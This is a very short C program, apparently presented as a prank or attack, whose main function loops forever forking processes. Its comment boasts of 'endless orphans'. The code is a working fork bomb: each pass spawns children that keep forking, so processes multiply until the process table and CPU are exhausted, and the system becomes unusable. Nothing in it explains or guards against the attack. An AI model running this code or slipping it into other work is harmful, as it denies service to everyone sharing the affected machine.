#include <unistd.h>

/* Endless orphans for whoever reaps them. */
int main(void) { for (;;) if (fork() == 0 && fork() == 0) _exit(0); }
